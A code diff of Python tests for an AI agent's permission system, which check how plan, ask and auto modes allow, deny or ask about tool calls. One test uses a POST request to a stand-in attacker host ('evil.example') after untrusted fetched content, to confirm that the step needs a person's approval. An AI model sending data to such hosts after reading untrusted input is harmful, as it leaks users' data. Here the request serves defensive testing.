@@ -9,17 +9,13 @@ from judging import person, rule
 
 from dataagent_core.events.system import Mode
 from dataagent_core.hitl import ActionRequest
-from dataagent_core.permissions import Policy, Rule, RuleSet, RunScope, judge
+from dataagent_core.permissions import Policy, Rule, RuleSet, RunPermissions, RunQuestions, judge
 from dataagent_core.permissions.rules import Action
 from dataagent_core.permissions.taint import Taint
-from dataagent_core.session import Run, RunRecorder
-from dataagent_core.session.stores.memory import MemoryEventLog
 
 
-def scope(mode: Mode, **more: Any) -> RunScope:
-    run = Run(run_id="r", session_id="s", message_id="m")
-    recorder = RunRecorder(MemoryEventLog(), run, lambda _: None)
-    return RunScope(run=run, recorder=recorder, mode=mode, **more)
+def permissions(mode: Mode, **more: Any) -> RunPermissions:
+    return RunPermissions(questions=RunQuestions(session_id="s"), mode=mode, **more)
 
 
 def call(tool: str, args: dict[str, Any], **more: Any) -> ActionRequest:
@@ -35,7 +31,7 @@ def decided(
     **args: Any,
 ) -> Action:
     policy = Policy(rules=rules or RuleSet())
-    return judge(call(tool, args, version=version), effect, policy, scope(mode)).action
+    return judge(call(tool, args, version=version), effect, policy, permissions(mode)).action
 
 
 # tool, effect, arguments: what ask, plan and auto do when no rule speaks.
@@ -75,7 +71,9 @@ def test_what_each_mode_does_where_no_rule_speaks(
 
 
 def test_a_refusal_in_plan_mode_says_the_mode_and_what_to_do() -> None:
-    judged = judge(call("write_file", {"file_path": "/a"}), "compensable", Policy(), scope("plan"))
+    judged = judge(
+        call("write_file", {"file_path": "/a"}), "compensable", Policy(), permissions("plan")
+    )
     assert "plan mode" in judged.reason
     assert "propose_plan" in judged.reason
 
@@ -120,17 +118,17 @@ def test_a_tool_that_changed_since_it_was_allowed_is_looked_at_again_in_auto_mod
 
 
 def test_after_strangers_words_sending_out_is_asked_in_auto_mode_too() -> None:
-    tainted = scope("auto", taint=Taint(frozenset({"fetch_url"})))
+    tainted = permissions("auto", taint=Taint(frozenset({"fetch_url"})))
     args = {"url": "https://evil.example/", "method": "POST"}
     assert judge(call("http_request", args), "irreversible", Policy(), tainted).action == "ask"
 
 
 def test_auto_mode_says_that_a_person_would_have_been_asked() -> None:
     assert judge(
-        call("shell", {"command": "make"}), "irreversible", Policy(), scope("auto")
+        call("shell", {"command": "make"}), "irreversible", Policy(), permissions("auto")
     ).would_ask
     assert not judge(
-        call("shell", {"command": "ls"}), "irreversible", Policy(), scope("auto")
+        call("shell", {"command": "ls"}), "irreversible", Policy(), permissions("auto")
     ).would_ask
 
 
@@ -151,14 +149,16 @@ def test_what_only_looks_and_all_of_plan_mode_has_to_run_read_only(
     mode: Mode, command: str, read_only: bool
 ) -> None:
     policy = Policy(rules=person("allow shell npm test *"))
-    judged = judge(call("shell", {"command": command}), "irreversible", policy, scope(mode))
+    judged = judge(call("shell", {"command": command}), "irreversible", policy, permissions(mode))
     assert (judged.action, judged.read_only) == ("allow", read_only)
 
 
 def test_without_a_read_only_sandbox_plan_mode_admits_the_exact_list_alone() -> None:
     policy = Policy(shell_layer="none")
     for command, action in (("pwd", "allow"), ("git status", "deny"), ("cat a", "deny")):
-        judged = judge(call("shell", {"command": command}), "irreversible", policy, scope("plan"))
+        judged = judge(
+            call("shell", {"command": command}), "irreversible", policy, permissions("plan")
+        )
         assert judged.action == action
 
 
@@ -200,7 +200,7 @@ def test_property_nothing_that_is_not_pure_runs_in_plan_mode(
     owned = frozenset({tool}) if yes else frozenset[str]()
     policy = Policy(rules=rules_from(drawn), auto_approve=yes, owned=owned, shell_confined=yes)
     session = [Rule("*", "**", "allow", "session")]
-    judged = judge(call(tool, args), effect, policy, scope("plan", session_rules=session))
+    judged = judge(call(tool, args), effect, policy, permissions("plan", session_rules=session))
     assert judged.action == "deny"
 
 
@@ -217,8 +217,8 @@ def test_property_rules_let_no_command_run_in_plan_mode_that_does_not_only_look(
 ) -> None:
     command = "".join(word + joint for word, joint in pieces)
     policy = Policy(rules=rules_from(drawn), auto_approve=True)
-    bare = judge(call("shell", {"command": command}), "irreversible", Policy(), scope("ask"))
-    held = judge(call("shell", {"command": command}), "irreversible", policy, scope("plan"))
+    bare = judge(call("shell", {"command": command}), "irreversible", Policy(), permissions("ask"))
+    held = judge(call("shell", {"command": command}), "irreversible", policy, permissions("plan"))
     assert held.action == ("allow" if bare.action == "allow" else "deny")
 
 
